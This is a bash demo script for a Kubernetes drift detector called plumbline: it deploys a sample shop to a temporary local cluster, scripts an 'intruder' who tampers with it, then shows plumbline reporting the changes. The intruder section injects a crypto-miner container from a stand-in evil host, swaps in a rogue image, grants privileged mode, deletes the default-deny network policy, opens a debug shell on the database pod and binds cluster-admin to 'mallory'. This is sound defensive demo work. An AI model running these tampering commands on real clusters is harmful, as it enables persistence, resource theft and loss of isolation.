#!/usr/bin/env bash
# The demo: a small shop is deployed from git, an intruder changes it by hand and
# puts things beside it, and plumbline tells what the intruder did. It runs on a real API server of its
# own and leaves nothing behind; KEEP=1 keeps the cluster until Ctrl-C.
set -euo pipefail
cd "$(dirname "$0")/../.."

work=$(mktemp -d "${TMPDIR:-/tmp}/plumbline-demo.XXXXXX")
plane=
cleanup() {
  if [ -n "$plane" ]; then
    kill "$plane" 2>/dev/null || true
    wait "$plane" 2>/dev/null || true
  fi
  rm -rf "$work"
}
trap cleanup EXIT
trap 'exit 130' INT
trap 'exit 143' TERM

say() { printf '\n%s\n' "── $*"; }

# as USER: kubectl as that user. did: the same, and say so.
as() { bin/kubectl --kubeconfig "$work/$1.kubeconfig" "${@:2}"; }
did() {
  local shown=kubectl arg
  for arg in "$@"; do
    case $arg in *[\{\[]*) arg="'$arg'" ;; esac
    shown="$shown $arg"
  done
  printf '   %s\n' "$shown"
  as intruder --namespace shop "$@" >/dev/null
}

say "Starting a Kubernetes control plane"
bin/controlplane up --dir "$work/cluster" --nodes 2 >"$work/up.log" 2>&1 &
plane=$!
until grep -qx ready "$work/up.log"; do
  if ! kill -0 "$plane" 2>/dev/null; then
    cat "$work/up.log" >&2
    exit 1
  fi
  sleep 0.1
done
for user in ci-deploy intruder; do
  bin/controlplane kubeconfig --dir "$work/cluster" --user "$user" --group system:masters >"$work/$user.kubeconfig"
done
bin/controlplane kubeconfig --dir "$work/cluster" --user auditor >"$work/auditor.kubeconfig"
as ci-deploy create clusterrole read-everything --verb=get,list,watch --resource='*.*' >/dev/null
as ci-deploy create clusterrolebinding auditor --clusterrole=read-everything --user=auditor >/dev/null

say "Committing examples/shop to a git repository, and deploying it as ci-deploy"
cp -R examples/shop "$work/config"
git -C "$work/config" init --quiet --initial-branch=main
git -C "$work/config" add --all
git -C "$work/config" -c user.name='Shop Team' -c user.email=team@shop.example.com commit --quiet --message='The shop'
deploy() { as ci-deploy apply --server-side --field-manager=ci-deploy -k "$work/config/$1" >/dev/null; }
deploy crd
as ci-deploy wait --for=condition=Established crd/coupons.shop.example.com >/dev/null
deploy overlays/production
as ci-deploy --namespace shop wait --for=condition=Available --timeout=60s deployment --all >/dev/null

# The Baseline's repository is the one that was made here.
sed "s|https://git.example.com/shop/config.git|file://$work/config|" examples/shop/baseline.yaml >"$work/baseline.yaml"
compare() {
  local code=0
  KUBECONFIG="$work/auditor.kubeconfig" KUBECACHEDIR="$work/cache" \
    "${PLUMBLINE:-bin/plumbline}" diff -f "$work/baseline.yaml" "$@" || code=$?
  return "$code"
}

say "plumbline diff -f baseline.yaml, before anybody interferes (as a user who may only read)"
compare

say "An intruder is at work"
did set image deployment/storefront nginx=docker.io/library/nginx:latest
did set env deployment/cart DEBUG=1
did patch deployment catalog -p '{"spec":{"template":{"spec":{"containers":[{"name":"miner","image":"evil.example/miner"}]}}}}'
did patch deployment payments --type=json -p '[{"op":"add","path":"/spec/template/spec/containers/0/securityContext/privileged","value":true},{"op":"replace","path":"/spec/template/spec/containers/0/securityContext/allowPrivilegeEscalation","value":true}]'
did scale deployment mailer --replicas=4
did label service storefront team=intruders
did delete networkpolicy default-deny
cat >"$work/editor" <<'EDITOR'
#!/bin/sh
sed 's/server_tokens off/server_tokens on/' "$1" >"$1.new" && mv "$1.new" "$1"
EDITOR
chmod +x "$work/editor"
KUBE_EDITOR="$work/editor" did edit configmap storefront-nginx
mailer=$(as ci-deploy --namespace shop get pods --selector app.kubernetes.io/name=mailer --output 'jsonpath={.items[0].metadata.name}')
did set image "pod/$mailer" mailer=ghcr.io/evil/mailer:1
did debug postgres-0 --image=docker.io/library/busybox:1.37 --container=debugger -- sh 2>/dev/null
did run shell --image=nginx
did create clusterrolebinding mallory --clusterrole=cluster-admin --user=mallory
as ci-deploy --namespace shop wait --for=condition=Available --timeout=60s deployment --all >/dev/null
for name in cart catalog payments storefront; do
  as ci-deploy --namespace shop rollout status "deployment/$name" --timeout=60s >/dev/null
done

say "plumbline diff -f baseline.yaml, after"
code=0
compare || code=$?
if [ "$code" -ne 1 ]; then
  echo "the demo failed: plumbline ended with $code, not 1" >&2
  exit 1
fi

if [ -n "${KEEP:-}" ]; then
  say "The cluster is kept until Ctrl-C. In another terminal, for example:"
  cat <<KEPT
   export KUBECONFIG=$work/intruder.kubeconfig
   bin/kubectl get all -n shop
   bin/plumbline diff -f $work/baseline.yaml
KEPT
  wait "$plane"
fi
